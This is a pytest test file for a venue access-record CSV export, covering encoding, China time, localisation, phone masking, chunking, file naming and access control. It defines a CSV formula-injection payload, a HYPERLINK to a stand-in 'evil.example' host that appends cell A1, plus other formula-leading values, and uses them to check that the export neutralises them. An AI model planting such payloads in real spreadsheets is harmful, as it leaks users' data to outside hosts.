"""The access-record CSV export, read as a spreadsheet reads it: UTF-8 with a byte-order mark,
CRLF, the contract's columns, China time, reasons and scanners in words (Chinese, English),
no cell a formula, every matching row however many chunks, members only, a file name per
venue and filter."""

import csv
import io
from datetime import UTC, datetime, timedelta
from urllib.parse import unquote

import pytest
from sqlalchemy import event

from hc_common.clock import rfc3339, utcnow
from hc_common.events.envelope import ACCESS_RECORD_CREATED, Envelope
from hc_common.ids import new_id
from venue_admin.access import export
from venue_admin.access.handlers import store_access_records

HEADER = [
    "record_id",
    "checked_at",
    "checked_at_local",
    "decision",
    "reasons",
    "reasons_text",
    "masked_name",
    "color",
    "scanner_kind",
    "scanner_id",
    "scanner_name",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
BOM = b"\xef\xbb\xbf"


def record(venue_id: str, at: datetime, scanner: tuple[str, str], **fields: object) -> dict:
    """An access record as the verifier writes it."""
    return {
        "record_id": new_id(),
        "venue_id": venue_id,
        "checked_at": at.isoformat(),
        "decision": "pass",
        "reasons": [],
        "masked_name": "李*华",
        "color": "green",
        "credential_id": new_id(),
        "scanner": {"kind": scanner[0], "id": scanner[1]},
        **fields,
    }


async def store(va, rows: list[dict]) -> None:
    await store_access_records(
        va.app.state.db.sessionmaker, [Envelope(type=ACCESS_RECORD_CREATED, data=r) for r in rows]
    )


async def add_device(va, venue_id: str, admin, name: str) -> str:
    response = await va.client.post(
        f"/v1/venues/{venue_id}/devices", headers=admin.headers, json={"name": name}
    )
    assert response.status_code == 201, response.text
    return str(response.json()["device_id"])


def masked(phone: str) -> str:
    return phone[:3] + "****" + phone[-4:]


async def export_csv(va, venue_id: str, user, **params: str) -> tuple[bytes, list[dict]]:
    """The raw bytes, and the rows as a spreadsheet reads them."""
    response = await va.client.get(
        f"/v1/venues/{venue_id}/access-records",
        headers={**user.headers, "Accept": "text/csv"},
        params=params,
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert reader.fieldnames == HEADER
    return response.content, rows


@pytest.fixture
async def venue(va):
    """A venue with a gate, a gate named as a formula, a sub-admin, and records scanned by
    each, newest first, one minute apart."""
    admin = va.user()
    venue_id = await va.venue(admin, name="南宁东站")
    gate = await add_device(va, venue_id, admin, "北门1号闸机")
    evil_gate = await add_device(va, venue_id, admin, FORMULA)
    staff = await va.add_sub_admin(venue_id, admin)
    now = utcnow().replace(microsecond=654321)
    scanners = [("device", gate), ("user", staff.user_id), ("device", evil_gate)]
    rows = [
        record(
            venue_id,
            now - timedelta(minutes=i),
            scanners[i % 3],
            decision=["pass", "deny", "manual_check"][i % 3],
            reasons=[[], ["color_yellow", "nat_too_old"], ["status_unavailable"]][i % 3],
            color=["green", "yellow", None][i % 3],
        )
        for i in range(12)
    ]
    await store(va, rows)
    return {
        "admin": admin,
        "staff": staff,
        "venue_id": venue_id,
        "gate": gate,
        "evil_gate": evil_gate,
        "rows": rows,
        "now": now,
    }


async def test_the_file_opens_as_excel_reads_it(va, venue) -> None:
    raw, rows = await export_csv(va, venue["venue_id"], venue["admin"])
    # The byte-order mark once, then CRLF after every line and no bare LF.
    assert raw.startswith(BOM) and not raw[3:].startswith(BOM)
    assert raw.count(b"\r\n") == 13 and b"\n" not in raw.replace(b"\r\n", b"")
    assert raw[3:].split(b"\r\n", 1)[0].decode() == ",".join(HEADER)
    assert [r["record_id"] for r in rows] == [r["record_id"] for r in venue["rows"]]
    staff_phone = venue["staff"].phone
    local = (venue["now"] + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M:%S")
    assert rows[0] == {
        "record_id": venue["rows"][0]["record_id"],
        "checked_at": rfc3339(venue["now"]),
        "checked_at_local": local,
        "decision": "pass",
        "reasons": "",
        "reasons_text": "",
        "masked_name": "李*华",
        "color": "green",
        "scanner_kind": "device",
        "scanner_id": venue["gate"],
        "scanner_name": "北门1号闸机",
    }
    assert rows[1]["reasons"] == "color_yellow;nat_too_old"
    assert rows[1]["reasons_text"] == "黄码、核酸超时"
    assert (rows[1]["scanner_kind"], rows[1]["scanner_id"]) == ("user", venue["staff"].user_id)
    assert rows[1]["scanner_name"] == masked(staff_phone) != staff_phone
    assert rows[2]["reasons_text"] == "健康状态暂不可查" and rows[2]["color"] == ""
    # The gate named as a formula is text, as every other cell that would start one.
    assert rows[2]["scanner_name"] == "'" + FORMULA
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


async def test_english_words_with_accept_language_en(va, venue) -> None:
    english = {**venue["admin"].headers, "Accept-Language": "en"}
    response = await va.client.get(
        f"/v1/venues/{venue['venue_id']}/access-records",
        headers={**english, "Accept": "text/csv"},
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[1]["reasons_text"] == "Yellow code; NAT result too old"
    assert rows[2]["reasons_text"] == "Health status unavailable"
    # Codes stay codes, names stay names, whatever the language.
    assert rows[1]["decision"] == "deny" and rows[1]["color"] == "yellow"
    assert rows[0]["scanner_name"] == "北门1号闸机"


async def test_local_time_is_china_time_across_midnight(va) -> None:
    admin = va.user()
    venue_id = await va.venue(admin)
    gate = await add_device(va, venue_id, admin, "南门")
    # 16:30 UTC is half past midnight the next day in China; 15:59:59 still the same day.
    day = utcnow().date() - timedelta(days=2)
    late = datetime(day.year, day.month, day.day, 16, 30, 0, tzinfo=UTC)
    early = datetime(day.year, day.month, day.day, 15, 59, 59, 999999, tzinfo=UTC)
    await store(
        va, [record(venue_id, late, ("device", gate)), record(venue_id, early, ("device", gate))]
    )
    _raw, rows = await export_csv(va, venue_id, admin)
    next_day = day + timedelta(days=1)
    assert [r["checked_at_local"] for r in rows] == [
        f"{next_day.isoformat()} 00:30:00",
        f"{day.isoformat()} 23:59:59",
    ]
    assert [r["checked_at"] for r in rows] == [
        f"{day.isoformat()}T16:30:00Z",
        f"{day.isoformat()}T15:59:59Z",
    ]


async def test_no_reason_text_or_name_runs_as_a_formula(va) -> None:
    admin = va.user()
    venue_id = await va.venue(admin)
    gate = await add_device(va, venue_id, admin, "+1 gate")
    # A reason code the table does not know is written as it is: neutralised too.
    rows = [
        record(venue_id, utcnow(), ("device", gate), reasons=["-2+3", "nat_missing"]),
        record(venue_id, utcnow() - timedelta(seconds=1), ("device", gate), masked_name="@*m"),
    ]
    await store(va, rows)
    for headers in ({}, {"Accept-Language": "en"}):
        response = await va.client.get(
            f"/v1/venues/{venue_id}/access-records",
            headers={**admin.headers, **headers, "Accept": "text/csv"},
        )
        got = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert got[0]["reasons"] == "'-2+3;nat_missing"
        assert got[0]["reasons_text"] in ("'-2+3、无核酸记录", "'-2+3; No NAT result")
        assert got[0]["scanner_name"] == "'+1 gate"
        assert got[1]["masked_name"] == "'@*m"


async def test_removed_device_keeps_its_name_removed_member_has_none(va, venue) -> None:
    admin, venue_id = venue["admin"], venue["venue_id"]
    other_admin = va.user()
    other_venue = await va.venue(other_admin)
    foreign_gate = await add_device(va, other_venue, other_admin, "别家的闸机")
    await store(
        va, [record(venue_id, venue["now"] + timedelta(seconds=1), ("device", foreign_gate))]
    )
    deleted = await va.client.delete(
        f"/v1/venues/{venue_id}/devices/{venue['gate']}", headers=admin.headers
    )
    assert deleted.status_code == 204
    removed = await va.client.delete(
        f"/v1/venues/{venue_id}/members/{venue['staff'].user_id}", headers=admin.headers
    )
    assert removed.status_code == 204, removed.text
    _raw, rows = await export_csv(va, venue_id, admin)
    # A device of another venue is not named here (the id alone).
    assert (rows[0]["scanner_id"], rows[0]["scanner_name"]) == (foreign_gate, "")
    by_id = {r["record_id"]: r for r in rows}
    for stored in venue["rows"]:
        row = by_id[stored["record_id"]]
        if row["scanner_id"] == venue["gate"]:
            assert row["scanner_name"] == "北门1号闸机"
        elif row["scanner_kind"] == "user":
            assert row["scanner_id"] == venue["staff"].user_id and row["scanner_name"] == ""
    admin_scan = record(venue_id, venue["now"] + timedelta(seconds=2), ("user", admin.user_id))
    await store(va, [admin_scan])
    _raw, rows = await export_csv(va, venue_id, admin)
    assert rows[0]["record_id"] == admin_scan["record_id"]
    assert rows[0]["scanner_name"] == masked(admin.phone)


async def test_filters_give_every_matching_row_and_name_the_file(va, venue) -> None:
    admin, venue_id, stored, now = venue["admin"], venue["venue_id"], venue["rows"], venue["now"]
    start, end = now - timedelta(minutes=7), now - timedelta(minutes=1)
    params = {"decision": "deny", "from": rfc3339(start), "to": rfc3339(end), "limit": "1"}
    response = await va.client.get(
        f"/v1/venues/{venue_id}/access-records",
        headers={**admin.headers, "Accept": "text/csv"},
        params=params,
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    # deny is every third row from the second; within [7, 1) minutes ago: 4 and 7 minutes ago
    # (`from` is a whole second, 0.65 s before the row of 7 minutes ago).
    assert [r["record_id"] for r in rows] == [stored[4]["record_id"], stored[7]["record_id"]]
    # The same rows as the JSON list, which pages them.
    listed = await va.client.get(
        f"/v1/venues/{venue_id}/access-records", headers=admin.headers, params=params
    )
    first = listed.json()["items"][0]["record_id"]
    assert first == rows[0]["record_id"]

    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    parts = dict(p.strip().split("=", 1) for p in disposition.split(";")[1:])
    assert parts["filename"].isascii()
    stamps = [
        (t + timedelta(hours=8)).strftime("%Y%m%d-%H%M%S")
        for t in (start.replace(microsecond=0), end.replace(microsecond=0))
    ]
    assert parts["filename"] == (
        f'"access-records_{venue_id}_from-{stamps[0]}_to-{stamps[1]}_deny.csv"'
    )
    encoded = parts["filename*"]
    assert encoded.startswith("UTF-8''") and encoded.isascii()
    assert unquote(encoded.removeprefix("UTF-8''")) == (
        f"出入记录_南宁东站_from-{stamps[0]}_to-{stamps[1]}_deny.csv"
    )


async def test_file_name_is_safe_to_save_in_any_language(va) -> None:
    admin = va.user()
    venue_id = await va.venue(admin, name='北/南:广场*"?')
    for language, title in (("zh-CN", "出入记录"), ("en", "access-records")):
        response = await va.client.get(
            f"/v1/venues/{venue_id}/access-records",
            headers={**admin.headers, "Accept": "text/csv", "Accept-Language": language},
        )
        assert response.status_code == 200
        # No rows: the header alone, after the byte-order mark.
        assert response.content == BOM + ",".join(HEADER).encode() + b"\r\n"
        disposition = response.headers["content-disposition"]
        name = unquote(disposition.split("filename*=UTF-8''", 1)[1])
        assert name == f"{title}_北_南_广场_.csv"
        assert f'filename="access-records_{venue_id}.csv"' in disposition


async def test_every_row_across_chunks_with_names_looked_up_once(va, venue, monkeypatch) -> None:
    """Chunks of 5: every row, in order, and each scanner's name looked up once (in the
    chunk where it first appears), never per row."""
    monkeypatch.setattr(export, "CSV_CHUNK", 5)
    admin, venue_id = venue["admin"], venue["venue_id"]
    more = [
        record(
            venue_id,
            venue["now"] - timedelta(hours=1, minutes=i),
            [("device", venue["gate"]), ("user", venue["staff"].user_id)][i % 2],
        )
        for i in range(40)
    ]
    await store(va, more)
    statements: list[str] = []

    def seen(_conn, _cursor, statement: str, *_args: object) -> None:
        statements.append(statement.lower())

    engine = va.app.state.db.engine.sync_engine
    event.listen(engine, "before_cursor_execute", seen)
    try:
        _raw, rows = await export_csv(va, venue_id, admin)
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert [r["record_id"] for r in rows] == [r["record_id"] for r in venue["rows"] + more]
    names = {"device": {venue["gate"]: "北门1号闸机", venue["evil_gate"]: "'" + FORMULA}}
    names["user"] = {venue["staff"].user_id: masked(venue["staff"].phone)}
    for row in rows:
        assert row["scanner_name"] == names[row["scanner_kind"]][row["scanner_id"]], row
    pages = [s for s in statements if "from access_records" in s]
    assert len(pages) == 11  # 52 rows: 10 full chunks and the last of 2
    device_lookups = [s for s in statements if "from devices" in s]
    member_lookups = [s for s in statements if "from members" in s and " in (" in s]
    # The first chunk holds all three scanners: one lookup each, none after.
    assert len(device_lookups) == 1 and len(member_lookups) == 1
    # A cache too small for the venue's scanners forgets, and looks them up again.
    monkeypatch.setattr(export, "NAME_CACHE", 1)
    _raw, again = await export_csv(va, venue_id, admin)
    assert again == rows


async def test_members_only(va, venue) -> None:
    url = f"/v1/venues/{venue['venue_id']}/access-records"
    _raw, rows = await export_csv(va, venue["venue_id"], venue["staff"])
    assert len(rows) == 12
    outsider = await va.client.get(url, headers={**va.user().headers, "Accept": "text/csv"})
    assert outsider.status_code == 403 and outsider.json()["code"] == "forbidden"
    assert outsider.headers["content-type"] == "application/problem+json"
    assert "filename" not in outsider.headers.get("content-disposition", "")
    unknown = await va.client.get(
        f"/v1/venues/{new_id()}/access-records",
        headers={**venue["admin"].headers, "Accept": "text/csv"},
    )
    assert unknown.status_code == 404
    anonymous = await va.client.get(url, headers={"Accept": "text/csv"})
    assert anonymous.status_code == 401


async def test_times_at_the_ends_of_the_calendar_are_no_error(va, venue) -> None:
    url = f"/v1/venues/{venue['venue_id']}/access-records"
    headers = {**venue["admin"].headers, "Accept": "text/csv"}
    # The whole calendar: every row; the file name's end has no China time, so UTC (`Z`).
    whole = {"from": "0001-01-01T00:00:00Z", "to": "9999-12-31T23:59:59Z"}
    response = await va.client.get(url, headers=headers, params=whole)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 12
    assert "_from-00010101-080000_to-99991231-235959Z.csv" in unquote(
        response.headers["content-disposition"]
    )
    # A time with no UTC one (before year 1, after 9999) is refused, in either form.
    for accept in ("text/csv", "application/json"):
        for params in (
            {"from": "0001-01-01T00:00:00+08:00"},
            {"to": "9999-12-31T23:59:59-08:00"},
        ):
            refused = await va.client.get(
                url, headers={**venue["admin"].headers, "Accept": accept}, params=params
            )
            assert refused.status_code == 422, (params, refused.text)
            assert refused.json()["code"] == "invalid_time"
